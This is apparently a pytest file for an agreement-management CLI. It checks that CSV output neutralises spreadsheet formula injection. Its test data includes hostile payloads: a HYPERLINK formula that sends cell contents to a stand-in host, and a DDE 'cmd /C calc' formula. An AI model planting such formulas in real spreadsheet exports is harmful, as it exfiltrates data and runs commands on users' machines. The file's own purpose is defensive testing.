"""Data that becomes code: nothing from an agreement is executed by a spreadsheet, a
terminal, a CI log, a calendar, a browser or a pull-request comment (issue 16).

Each test puts a hostile value where data reaches an output and checks that it comes out
inert: CSV cells neutralised (OWASP), control characters escaped in text, Markdown and
HTML that cannot carry script or attributes.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from iopctl.cli import app
from iopctl.present.safe import csv_cell, csv_writer

REPO = Path(__file__).resolve().parent.parent
MINIMAL = (REPO / "tests" / "fixtures" / "valid" / "minimal-active.yaml").read_text("utf-8")
runner = CliRunner()


def run(*args: str) -> tuple[int, str, str]:
    result = runner.invoke(app, list(args))
    return result.exit_code, result.stdout, result.stderr


def hostile(tmp_path: Path, replacements: dict[str, str], name: str = "minimal-active") -> Path:
    text = MINIMAL
    for old, new in replacements.items():
        assert old in text, old
        text = text.replace(old, new)
    path = tmp_path / f"{name}.yaml"
    path.write_text(text, encoding="utf-8")
    return path


# --- CSV (OWASP CSV injection) ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("-501", "-501"),  # a plain number stays a number
        ("-13.50", "-13.50"),
        ("Äldrenämnden", "Äldrenämnden"),
        ("", ""),
        (None, ""),
        (-7, "-7"),
    ],
)
def test_csv_cell_neutralises_formulas(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_csv_writer_quotes_every_separator() -> None:
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow(["a;=1+1", 'b"c', "d,e", "f\ng", 3, "plain"])
    assert out.getvalue() == '"a;=1+1","b""c","d,e","f\ng",3,plain\n'
    [row] = list(csv.reader(io.StringIO(out.getvalue())))
    assert row == ["a;=1+1", 'b"c', "d,e", "f\ng", "3", "plain"]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka")'


def test_list_csv_neutralises_a_party_name(tmp_path: Path) -> None:
    path = hostile(tmp_path, {"name: Exempelnämnden": f"name: '{FORMULA}'"})
    code, out, _ = run("list", str(path), "--as-of", "2025-01-01", "--format", "csv")
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["parties"] == f"'{FORMULA}; Exempelföreningen"


def test_economy_csv_neutralises_an_index_source(tmp_path: Path) -> None:
    path = hostile(
        tmp_path,
        {
            "payment: {schedule: yearly, months: [1]}": (
                "indexation: {index: OPI, from_date: 2025-01-01}"
            )
        },
    )
    index = tmp_path / "opi.yaml"
    index.write_text(
        "indices:\n  OPI:\n    values:\n"
        + "".join(
            f"      - year: {year}\n        percent: 2.0\n        status: definitive\n"
            f"        source: '{FORMULA}'\n"
            for year in (2025, 2026)
        ),
        encoding="utf-8",
    )
    code, out, _ = run("economy", str(path), "--index-file", str(index), "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    sources = {r["index_source"] for r in rows if r["year"] == "2025" and r["kind"] == "money"}
    assert sources == {f"'{FORMULA}"}


def test_due_csv_neutralises_a_file_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    hostile(tmp_path, {}, name="@SUM(1+1)")
    monkeypatch.chdir(tmp_path)
    code, out, _ = run("due", "@SUM(1+1).yaml", "--as-of", "2025-01-01", "--format", "csv")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out)))
    assert rows and {r["file"] for r in rows} == {"'@SUM(1+1).yaml"}
